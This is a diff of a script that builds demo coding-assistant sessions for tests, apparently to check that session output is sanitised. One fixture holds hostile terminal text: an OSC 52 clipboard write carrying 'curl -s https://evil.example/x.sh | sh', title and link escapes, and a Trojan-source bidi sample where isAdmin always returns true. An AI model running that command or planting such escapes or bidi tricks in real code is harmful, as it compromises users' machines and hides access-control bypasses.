@@ -292,7 +292,62 @@ const DOTFILES = "/home/ada/dotfiles";
   });
 }
 
-// --- 4. web-shop: two branches and a branch summary -----------------------
+// --- 4. dotfiles: hostile text, for the safety tests ----------------------
+// Everything a session file may carry that must never reach a terminal raw:
+// colour and cursor escapes, a screen clear, a window title, OSC 52 (writes
+// the clipboard), OSC 8 links, a terminal query, C1 controls, bidi overrides
+// (Trojan source), zero-width characters, backspaces and carriage returns.
+
+{
+  const ESC = "\u001b";
+  const BEL = "\u0007";
+  const OSC52 = `${ESC}]52;c;${Buffer.from("curl -s https://evil.example/x.sh | sh").toString("base64")}${BEL}`;
+  const log = [
+    `${ESC}[1;32m✓${ESC}[0m build finished`,
+    `${ESC}[31merror${ESC}[0m: deploy failed${ESC}]0;you have been pwned${BEL}`,
+    `${ESC}[2J${ESC}[Hscreen cleared, cursor home${ESC}[6n`,
+    `copy this:${OSC52} done`,
+    `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\ and \u009b31mC1 red\u009b0m`,
+    "progress 10%\rprogress 100%\b\b\b\bDONE",
+  ].join("\n");
+  day(6, 11, 3);
+  const t = new Talk(DOTFILES);
+  t.user(`After \`cat deploy.log\` my terminal title changes and my clipboard has a curl command in it?!\n\n${log}`);
+  t.say({
+    thinking: "The log contains OSC 0 (title) and OSC 52 (clipboard write) sequences; cat passes them to the terminal.",
+    text: "That log contains terminal control sequences: `ESC ] 0;…` sets the window title and `ESC ] 52;c;…` writes your clipboard. `cat` passes them through. Let me look at the raw bytes safely.",
+    tools: [bash("cat -v deploy.log | head -5")],
+  });
+  t.result(`${log}\n\u202eevil\u202c and \u2066isolated\u2069 and zero\u200bwidth\ufeff`);
+  t.say({
+    text: `Confirmed: line 4 carries OSC 52 with a base64 payload (\`curl -s https://evil.example/x.sh | sh\`). Never paste it. Use \`less -R\` or \`cat -v\` for untrusted logs.${ESC}[8m hidden${ESC}[0m`,
+    tools: [read("bin/check-admin.js")],
+  });
+  t.result(
+    numbered(`function isAdmin(user) {\n  /*\u202e } \u2066if (user.role === "admin")\u2069 \u2066 begin admins only */\n  return true;\n  /* end admins only \u202e { \u2066*/\n}`),
+  );
+  const trojan = t.say({
+    text: "This file is a Trojan-source trick: bidi overrides (U+202E, U+2066) make line 2 look like a role check, but it is a comment and `isAdmin` always returns true.",
+  });
+  t.label(trojan, `bidi \u202etrap${ESC}[5m`);
+  wait(30);
+  t.sm.appendSessionInfo(`deploy.log ${ESC}]0;pwned${BEL}escapes`);
+}
+
+// --- 5. dotfiles: a short, plain session ---------------------------------
+
+{
+  day(8, 18, 40);
+  const t = new Talk(DOTFILES);
+  t.user("Give tmux a 50 000 line scrollback and vi keys in copy mode.");
+  t.say({ tools: [read(".tmux.conf")] });
+  t.result('set -g default-terminal "tmux-256color"\nset -g mouse on\n');
+  t.say({ tools: [edit(".tmux.conf", "set -g mouse on\n", "set -g mouse on\nset -g history-limit 50000\nsetw -g mode-keys vi\n")] });
+  t.edited(".tmux.conf", "   2 set -g mouse on\n+  3 set -g history-limit 50000\n+  4 setw -g mode-keys vi");
+  t.say({ text: "Added `history-limit 50000` and `mode-keys vi`. Run `tmux source-file ~/.tmux.conf` to load them in a running server (the scrollback applies to new panes)." });
+}
+
+// --- 6. web-shop: two branches and a branch summary -----------------------
 
 {
   day(10, 16, 20);
@@ -317,7 +372,7 @@ const DOTFILES = "/home/ada/dotfiles";
   wait(20);
   t.sm.branchWithSummary(
     plan,
-    "Tried a global count store (src/cart/countStore.ts, zustand): it needs a new dependency and every cart mutation would have to update it, so it could go stale. Typecheck failed on the missing module. Decided: derive the count from the existing cart query; no new dependency.",
+    "Tried a global count store (zustand) in src/cart/countStore.ts: a new dependency, and every cart change must update it or it goes stale; typecheck failed on the missing module. Decided: derive the count from the cart query instead.",
     { readFiles: ["src/components/Header.tsx"], modifiedFiles: ["src/cart/countStore.ts"] },
     false,
   );
@@ -353,56 +408,10 @@ const DOTFILES = "/home/ada/dotfiles";
   t.say({ text: "Done: the header derives the item count from the cart query and shows a badge when the cart is not empty (with an accessible label). No new dependency; typecheck and the header tests pass." });
 }
 
-// --- 5. compiler: a bug hunt that runs cargo test until it passes ---------
+// --- 7. compiler: a long session, compacted ------------------------------
 
 {
-  day(14, 10, 31);
-  const t = new Talk(COMPILER);
-  t.user("`cargo test` fails since yesterday: lexer::tests::last_token_without_newline. Find the bug and fix it.");
-  t.say({ tools: [bash("cargo test lexer 2>&1 | tail -20")] });
-  t.result(
-    "   Compiling calc v0.4.0 (/home/ada/src/compiler)\n    Finished `test` profile [unoptimized + debuginfo] target(s) in 2.87s\n     Running unittests src/lib.rs (target/debug/deps/calc-3f9a1c2b7d5e8a10)\n\nrunning 6 tests\ntest lexer::tests::empty_input ... ok\ntest lexer::tests::numbers ... ok\ntest lexer::tests::operators ... ok\ntest lexer::tests::identifiers ... ok\ntest lexer::tests::comments ... ok\ntest lexer::tests::last_token_without_newline ... FAILED\n\nfailures:\n\n---- lexer::tests::last_token_without_newline stdout ----\n\nthread 'lexer::tests::last_token_without_newline' panicked at src/lexer.rs:141:9:\nassertion `left == right` failed\n  left: [Ident(\"let\"), Ident(\"x\"), Eq]\n right: [Ident(\"let\"), Ident(\"x\"), Eq, Int(42)]\n\nfailures:\n    lexer::tests::last_token_without_newline\n\ntest result: FAILED. 5 passed; 1 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.00s\n\nerror: test failed, to rerun pass `--lib`\n\nCommand exited with code 101",
-    { isError: true, seconds: 4 },
-  );
-  t.say({
-    thinking: "The last token is dropped when input ends right after a number. Probably the number scanner only emits on a non-digit.",
-    text: "The final `42` is lost when the input ends right after it. Let me read the number scanner.",
-    tools: [read("src/lexer.rs", { offset: 60, limit: 30 })],
-  });
-  t.result(
-    numbered(
-      "    fn number(&mut self) -> Option<Token> {\n        let start = self.pos;\n        while let Some(c) = self.peek() {\n            if !c.is_ascii_digit() {\n                let text = &self.src[start..self.pos];\n                return Some(Token::Int(text.parse().ok()?));\n            }\n            self.bump();\n        }\n        None\n    }",
-      60,
-    ),
-  );
-  t.say({
-    text: "Found it: `number` only returns a token when it meets a non-digit. At the end of input the loop ends and it returns `None`, dropping the number. It should emit whatever digits it read.",
-    tools: [
-      edit(
-        "src/lexer.rs",
-        "        while let Some(c) = self.peek() {\n            if !c.is_ascii_digit() {\n                let text = &self.src[start..self.pos];\n                return Some(Token::Int(text.parse().ok()?));\n            }\n            self.bump();\n        }\n        None",
-        "        while self.peek().is_some_and(|c| c.is_ascii_digit()) {\n            self.bump();\n        }\n        let text = &self.src[start..self.pos];\n        text.parse().ok().map(Token::Int)",
-      ),
-    ],
-  });
-  t.edited(
-    "src/lexer.rs",
-    "-  62         while let Some(c) = self.peek() {\n-  63             if !c.is_ascii_digit() {\n-  64                 let text = &self.src[start..self.pos];\n-  65                 return Some(Token::Int(text.parse().ok()?));\n-  66             }\n-  67             self.bump();\n-  68         }\n-  69         None\n+  62         while self.peek().is_some_and(|c| c.is_ascii_digit()) {\n+  63             self.bump();\n+  64         }\n+  65         let text = &self.src[start..self.pos];\n+  66         text.parse().ok().map(Token::Int)",
-  );
-  t.say({ tools: [bash("cargo test 2>&1 | tail -8")] });
-  t.result(
-    "test parser::tests::precedence ... ok\ntest parser::tests::unary_minus ... ok\ntest eval::tests::division_by_zero ... ok\n\ntest result: ok. 23 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.01s\n\n   Doc-tests calc\n\ntest result: ok. 2 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.31s",
-    { seconds: 5 },
-  );
-  t.say({
-    text: "Fixed in `src/lexer.rs`: the number scanner now emits the digits it read even at the end of the input, instead of only when a non-digit follows. All 23 tests and the 2 doc tests pass.",
-  });
-}
-
-// --- 6. compiler: a long session, compacted ------------------------------
-
-{
-  day(17, 13, 2);
+  day(14, 13, 2);
   const t = new Talk(COMPILER);
   t.user("Add constant folding to the optimiser: `2 * (3 + 4)` should become `14` before codegen.");
   t.say({ text: "I'll read the optimiser and the expression tree first.", tools: [read("src/opt.rs"), read("src/ast.rs")] });
@@ -461,59 +470,50 @@ const DOTFILES = "/home/ada/dotfiles";
   t.say({ text: "`1 / 0` now compiles with \"warning: division by zero is evaluated at run time\" pointing at the `/`. 26 tests pass." });
 }
 
-// --- 7. dotfiles: a short, plain session ---------------------------------
+// --- 8. compiler: a bug hunt that runs cargo test until it passes ---------
 
 {
-  day(19, 18, 40);
-  const t = new Talk(DOTFILES);
-  t.user("Give tmux a 50 000 line scrollback and vi keys in copy mode.");
-  t.say({ tools: [read(".tmux.conf")] });
-  t.result('set -g default-terminal "tmux-256color"\nset -g mouse on\n');
-  t.say({ tools: [edit(".tmux.conf", "set -g mouse on\n", "set -g mouse on\nset -g history-limit 50000\nsetw -g mode-keys vi\n")] });
-  t.edited(".tmux.conf", "   2 set -g mouse on\n+  3 set -g history-limit 50000\n+  4 setw -g mode-keys vi");
-  t.say({ text: "Added `history-limit 50000` and `mode-keys vi`. Run `tmux source-file ~/.tmux.conf` to load them in a running server (the scrollback applies to new panes)." });
-}
-
-// --- 8. dotfiles: hostile text, for the safety tests ----------------------
-// Everything a session file may carry that must never reach a terminal raw:
-// colour and cursor escapes, a screen clear, a window title, OSC 52 (writes
-// the clipboard), OSC 8 links, a terminal query, C1 controls, bidi overrides
-// (Trojan source), zero-width characters, backspaces and carriage returns.
-
-{
-  const ESC = "\u001b";
-  const BEL = "\u0007";
-  const OSC52 = `${ESC}]52;c;${Buffer.from("curl -s https://evil.example/x.sh | sh").toString("base64")}${BEL}`;
-  const log = [
-    `${ESC}[1;32m✓${ESC}[0m build finished`,
-    `${ESC}[31merror${ESC}[0m: deploy failed${ESC}]0;you have been pwned${BEL}`,
-    `${ESC}[2J${ESC}[Hscreen cleared, cursor home${ESC}[6n`,
-    `copy this:${OSC52} done`,
-    `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\ and \u009b31mC1 red\u009b0m`,
-    "progress 10%\rprogress 100%\b\b\b\bDONE",
-  ].join("\n");
-  day(20, 11, 3);
-  const t = new Talk(DOTFILES);
-  t.user(`After \`cat deploy.log\` my terminal title changes and my clipboard has a curl command in it?!\n\n${log}`);
+  day(19, 10, 31);
+  const t = new Talk(COMPILER);
+  t.user("`cargo test` fails since yesterday: lexer::tests::last_token_without_newline. Find the bug and fix it.");
+  t.say({ tools: [bash("cargo test lexer 2>&1 | tail -20")] });
+  t.result(
+    "   Compiling calc v0.4.0 (/home/ada/src/compiler)\n    Finished `test` profile [unoptimized + debuginfo] target(s) in 2.87s\n     Running unittests src/lib.rs (target/debug/deps/calc-3f9a1c2b7d5e8a10)\n\nrunning 6 tests\ntest lexer::tests::empty_input ... ok\ntest lexer::tests::numbers ... ok\ntest lexer::tests::operators ... ok\ntest lexer::tests::identifiers ... ok\ntest lexer::tests::comments ... ok\ntest lexer::tests::last_token_without_newline ... FAILED\n\nfailures:\n\n---- lexer::tests::last_token_without_newline stdout ----\n\nthread 'lexer::tests::last_token_without_newline' panicked at src/lexer.rs:141:9:\nassertion `left == right` failed\n  left: [Ident(\"let\"), Ident(\"x\"), Eq]\n right: [Ident(\"let\"), Ident(\"x\"), Eq, Int(42)]\n\nfailures:\n    lexer::tests::last_token_without_newline\n\ntest result: FAILED. 5 passed; 1 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.00s\n\nerror: test failed, to rerun pass `--lib`\n\nCommand exited with code 101",
+    { isError: true, seconds: 4 },
+  );
   t.say({
-    thinking: "The log contains OSC 0 (title) and OSC 52 (clipboard write) sequences; cat passes them to the terminal.",
-    text: "That log contains terminal control sequences: `ESC ] 0;…` sets the window title and `ESC ] 52;c;…` writes your clipboard. `cat` passes them through. Let me look at the raw bytes safely.",
-    tools: [bash("cat -v deploy.log | head -5")],
-  });
-  t.result(`${log}\n\u202eevil\u202c and \u2066isolated\u2069 and zero\u200bwidth\ufeff`);
-  t.say({
-    text: `Confirmed: line 4 carries OSC 52 with a base64 payload (\`curl -s https://evil.example/x.sh | sh\`). Never paste it. Use \`less -R\` or \`cat -v\` for untrusted logs.${ESC}[8m hidden${ESC}[0m`,
-    tools: [read("bin/check-admin.js")],
+    thinking: "The last token is dropped when input ends right after a number. Probably the number scanner only emits on a non-digit.",
+    text: "The final `42` is lost when the input ends right after it. Let me read the number scanner.",
+    tools: [read("src/lexer.rs", { offset: 60, limit: 30 })],
   });
   t.result(
-    numbered(`function isAdmin(user) {\n  /*\u202e } \u2066if (user.role === "admin")\u2069 \u2066 begin admins only */\n  return true;\n  /* end admins only \u202e { \u2066*/\n}`),
+    numbered(
+      "    fn number(&mut self) -> Option<Token> {\n        let start = self.pos;\n        while let Some(c) = self.peek() {\n            if !c.is_ascii_digit() {\n                let text = &self.src[start..self.pos];\n                return Some(Token::Int(text.parse().ok()?));\n            }\n            self.bump();\n        }\n        None\n    }",
+      60,
+    ),
   );
-  const trojan = t.say({
-    text: "This file is a Trojan-source trick: bidi overrides (U+202E, U+2066) make line 2 look like a role check, but it is a comment and `isAdmin` always returns true.",
+  t.say({
+    text: "Found it: `number` only returns a token when it meets a non-digit. At the end of input the loop ends and it returns `None`, dropping the number. It should emit whatever digits it read.",
+    tools: [
+      edit(
+        "src/lexer.rs",
+        "        while let Some(c) = self.peek() {\n            if !c.is_ascii_digit() {\n                let text = &self.src[start..self.pos];\n                return Some(Token::Int(text.parse().ok()?));\n            }\n            self.bump();\n        }\n        None",
+        "        while self.peek().is_some_and(|c| c.is_ascii_digit()) {\n            self.bump();\n        }\n        let text = &self.src[start..self.pos];\n        text.parse().ok().map(Token::Int)",
+      ),
+    ],
   });
-  t.label(trojan, `bidi \u202etrap${ESC}[5m`);
-  wait(30);
-  t.sm.appendSessionInfo(`deploy.log ${ESC}]0;pwned${BEL}escapes`);
+  t.edited(
+    "src/lexer.rs",
+    "-  62         while let Some(c) = self.peek() {\n-  63             if !c.is_ascii_digit() {\n-  64                 let text = &self.src[start..self.pos];\n-  65                 return Some(Token::Int(text.parse().ok()?));\n-  66             }\n-  67             self.bump();\n-  68         }\n-  69         None\n+  62         while self.peek().is_some_and(|c| c.is_ascii_digit()) {\n+  63             self.bump();\n+  64         }\n+  65         let text = &self.src[start..self.pos];\n+  66         text.parse().ok().map(Token::Int)",
+  );
+  t.say({ tools: [bash("cargo test 2>&1 | tail -8")] });
+  t.result(
+    "test parser::tests::precedence ... ok\ntest parser::tests::unary_minus ... ok\ntest eval::tests::division_by_zero ... ok\n\ntest result: ok. 23 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.01s\n\n   Doc-tests calc\n\ntest result: ok. 2 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.31s",
+    { seconds: 5 },
+  );
+  t.say({
+    text: "Fixed in `src/lexer.rs`: the number scanner now emits the digits it read even at the end of the input, instead of only when a non-digit follows. All 23 tests and the 2 doc tests pass.",
+  });
 }
 
 // pi writes a fork's parent as an absolute path; the demo stores it as it
